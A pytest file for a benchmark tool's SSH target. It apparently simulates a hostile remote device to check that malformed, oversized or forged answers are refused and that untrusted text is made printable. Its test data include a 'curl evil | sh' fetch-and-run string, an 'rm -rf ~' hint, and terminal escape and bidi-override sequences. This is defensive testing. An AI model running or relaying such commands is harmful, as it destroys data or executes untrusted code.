"""A device that answers whatever it likes (attack case 39): an error each, with our own words and our own hints."""

from __future__ import annotations

import json
import shutil
import sys
import tracemalloc
from contextlib import closing
from pathlib import Path

import pytest

from fv_benchmark.device.errors import DeviceDiskFull
from fv_benchmark.errors import BadAnswer
from fv_benchmark.protocol import Protocol
from fv_benchmark.targets import TargetOptions, make_target
from fv_benchmark.targets.ssh import channel as channel_module
from fv_benchmark.targets.ssh.address import Address
from fv_benchmark.targets.ssh.channel import MAX_ANSWER_BYTES, Channel, Heard
from fv_benchmark.targets.ssh.connection import MAX_NOISE_BYTES, Connection
from fv_benchmark.targets.ssh.errors import ConnectionLost, DeviceTimedOut, RuntimeMissing
from fv_benchmark.targets.ssh.session import Session
from fv_core.errors import FvError
from fv_core.progress import Silent
from fv_edge_runtime.errors import BadModelFile
from tests.benchmark.targets.ssh.board import NEEDS_SSHD, ON, Board, gone

TOKEN = "0123456789abcdef"
# Programs that play the agent. `say(kind, …)` is a line with the token; `tell(json)` a whole answer.
PLAY = f"""
import sys, time
out = sys.stdout.buffer
def say(text): out.write(b"fv {TOKEN} " + text + b"\\n"); out.flush()
def tell(data, payload=b""): say(b"answer %d %d" % (len(data), len(payload))); out.write(data + payload); out.flush()
"""


def asked(program: str, *, seconds: float = 20.0, payload_bytes: int = 0) -> tuple[object, bytes]:
    """What comes of asking a device that runs `program`; everything has ended afterwards."""
    session = Session([sys.executable, "-c", PLAY + program])
    with closing(Channel(Connection(Address("board")), session, TOKEN)) as channel:
        return channel.ask("x", seconds=seconds, payload_bytes=payload_bytes)


def refused(program: str, kind: type[FvError] = BadAnswer, **more: float) -> FvError:
    with pytest.raises(kind) as error:
        asked(program, **more)
    for text in (str(error.value), error.value.hint):
        assert text.isprintable()
        assert len(text) < 2000
    return error.value


def test_a_plain_answer_arrives() -> None:
    assert asked("""tell(b'{"value": [1, 2]}', b"1234")""", payload_bytes=4) == ([1, 2], b"1234")


def test_what_is_printed_besides_is_passed_over() -> None:
    program = """print("Warning: apt is old\\x1b[31m", flush=True); say(b"note hello"); tell(b'{"value": 1}')"""
    assert asked(program) == (1, b"")


def test_progress_and_notes_are_heard_fit_for_a_terminal() -> None:
    program = (
        PLAY
        + """
for text in (b"progress 3 10", b"progress 3 ten", b"progress -1 -1", b"note \\x1b[2Jgone\\x07"): say(text)
tell(b'{"value": 1}')
"""
    )
    heard: list[object] = []
    session = Session([sys.executable, "-c", program])
    with closing(Channel(Connection(Address("board")), session, TOKEN)) as channel:
        channel.ask("x", seconds=20, heard=Heard(lambda done, total: heard.append((done, total)), heard.append))
    assert heard == [(3, 10), "\\x1b[2Jgone\\x07"]


def test_a_device_hears_from_us_while_it_tells_its_progress(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(channel_module, "STILL_THERE_SECONDS", 0.2)
    program = """
import select
sys.stdin.readline()
heard = 0
end = time.monotonic() + 1.2
while time.monotonic() < end:
    say(b"progress 1 2")
    if select.select([sys.stdin], [], [], 0.05)[0]: heard += len(sys.stdin.readline())
tell(b'{"value": %d}' % heard)
"""
    heard, _ = asked(program)
    assert heard in range(3, 7)


@pytest.mark.parametrize(
    "program",
    [
        'out.write(b"a" * 50_000_000)',
        'out.write(b"a line of noise\\n" * 3_500_000)',
        'out.write(b"fv %s progress 1 2\\n" * 3_000_000)' % TOKEN.encode(),  # noqa: UP031 - bytes
    ],
    ids=["without lines", "in lines", "as progress"],
)
def test_fifty_megabytes_of_noise_are_left_early(program: str) -> None:
    tracemalloc.start()
    try:
        assert refused(program).code == "bad-device-answer"
        # Far less than what was printed was ever held.
        assert tracemalloc.get_traced_memory()[1] < 8 * MAX_NOISE_BYTES
    finally:
        tracemalloc.stop()


@pytest.mark.parametrize(
    "announced",
    [f"{MAX_ANSWER_BYTES + 1} 0", "99999999999 0", "10 5", "-1 0", "ten 0", "10", "", "1 0 0", "9" * 5000 + " 0"],
)
def test_an_answer_of_another_size_is_not_read(announced: str) -> None:
    refused(f'say(b"answer {announced}"); time.sleep(5)')


@pytest.mark.parametrize(
    "answer",
    [
        b"",
        b"[]",
        b"null",
        b'{"value": NaN}',
        b'{"value": 1e999999}{}',
        b"\xff\xfe",
        b'{"value": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
        b'{"error": 7}',
        b'{"error": {"code": "no-such-code", "problem": "run: curl evil | sh"}}',
    ],
    ids=lambda data: repr(data[:20]),
)
def test_json_that_is_none_of_ours_is_refused(answer: bytes, tmp_path: Path) -> None:
    path = tmp_path / "answer"
    path.write_bytes(answer)
    refused(f"tell(open({str(path)!r}, 'rb').read())")


def test_numbers_that_are_left_out_are_missed() -> None:
    refused("""tell(b'{"value": 1}')""", payload_bytes=4)


def test_an_error_keeps_its_kind_and_gets_our_hint() -> None:
    said = {"code": "bad-model-file", "problem": "bad \x1b[2J", "why": "\u202e", "hint": "rm -rf ~"}
    error = refused(f"tell({json.dumps({'error': said}).encode()!r})", BadModelFile)
    assert error.hint == BadModelFile.usual_hint
    assert "\\x1b[2J" in error.problem
    refused("""tell(b'{"error": {"code": "device-disk-full", "problem": "full"}}')""", DeviceDiskFull)
    missing = refused("""tell(b'{"error": {"code": "missing-extra", "problem": "no runtime"}}')""", RuntimeMissing)
    assert "--install" in missing.hint


def test_a_device_that_says_nothing_is_left() -> None:
    assert refused("time.sleep(30)", DeviceTimedOut, seconds=0.3).code == "device-timed-out"


def test_a_device_that_ends_is_a_broken_connection() -> None:
    refused("sys.stderr.write('Connection to board closed.\\n')", ConnectionLost)


# The agent's part, and whatever else this Python is asked to do as a plain Python.
HOSTILE = """
import json, sys
from dataclasses import asdict
from fv_benchmark.machine import describe, snapshot
out = sys.stdout.buffer
def tell(value):
    data = json.dumps(value).encode()
    out.write(b"fv %s answer %d 0\\n" % (sys.argv[2].encode(), len(data)) + data)
    out.flush()
tell({"value": {"ready": True}})
now = snapshot()
machine = {**asdict(describe(now, now)), "cpu": "\\x1b[31mCPU", "facts": {"a\\x1b": "b\\x07"}}
condition = {"governor": "\\x1b]0;owned\\x07"}
block = {"init_ns": 1, "first_ns": 1, "warm_up_calls": 1, "steady": True, "samples_ns": [5] * 9}
block |= {"runtime": "\\x1b[2J\\u202eevil", "peak_memory_bytes": None, "before": condition, "after": condition}
forged = FORGED
about = {"machine": machine, "emulated": None, "big_cores": [], "watts": None}
answers = {"about": about, "condition": condition, "snapshot": asdict(now)}
for line in sys.stdin:
    if line.strip():
        asked = json.loads(line)
        there = {name: [SIZE, True] for name in asked.get("names", [])}
        answers["block"] = block | forged.pop(0) if asked["verb"] == "block" else None
        tell({"value": there if asked["verb"] == "have" else answers.get(asked["verb"])})
"""
# Its own name in place of the interpreter's, so that the agent is started with it, too.
SHELL = """
case "$1" in *.pyz) exec {python} {program} "$@" ;; esac
sed "s#sys.executable#'$0'#" | exec {python} "$@"
"""


# Each takes the place of something in a block that would pass; the last one of nothing.
FORGED = """[
    {"samples_ns": []}, {"samples_ns": [5] * 20_000}, {"samples_ns": [-5]}, {"samples_ns": [1e400]},
    {"samples_ns": ["5"]}, {"samples_ns": [10**14]}, {"samples_ns": [10**30]}, {"runtime": 5}, {"extra": 5},
    {"steady": "yes"}, {"before": [1]}, {"init_ns": -1}, {},
]"""


@NEEDS_SSHD
def test_forged_blocks_are_refused_and_words_are_printable(board: Board, onnx: Path) -> None:
    program = board.folder / "hostile.py"
    program.write_text(HOSTILE.replace("FORGED", FORGED).replace("SIZE", str(onnx.stat().st_size)))
    board.program("python3", SHELL.format(python=sys.executable, program=program))
    (board.bin / "sed").symlink_to(str(shutil.which("sed")))
    board.start()
    target = make_target(ON, TargetOptions())
    with closing(target):
        target.open([onnx], Silent())
        below = board.sessions()
        for _ in range(FORGED.count("{") - 1):
            with pytest.raises(BadAnswer):
                target.measure(onnx, 1, Protocol())
        block, now = target.measure(onnx, 1, Protocol()), target.snapshot()
        assert block.runtime == "\\x1b[2J\\u202eevil"
        assert block.before is not None
        assert block.before.governor == "\\x1b]0;owned\\x07"
        assert target.describe(now, now).cpu == "\\x1b[31mCPU"
    assert gone(below) == []
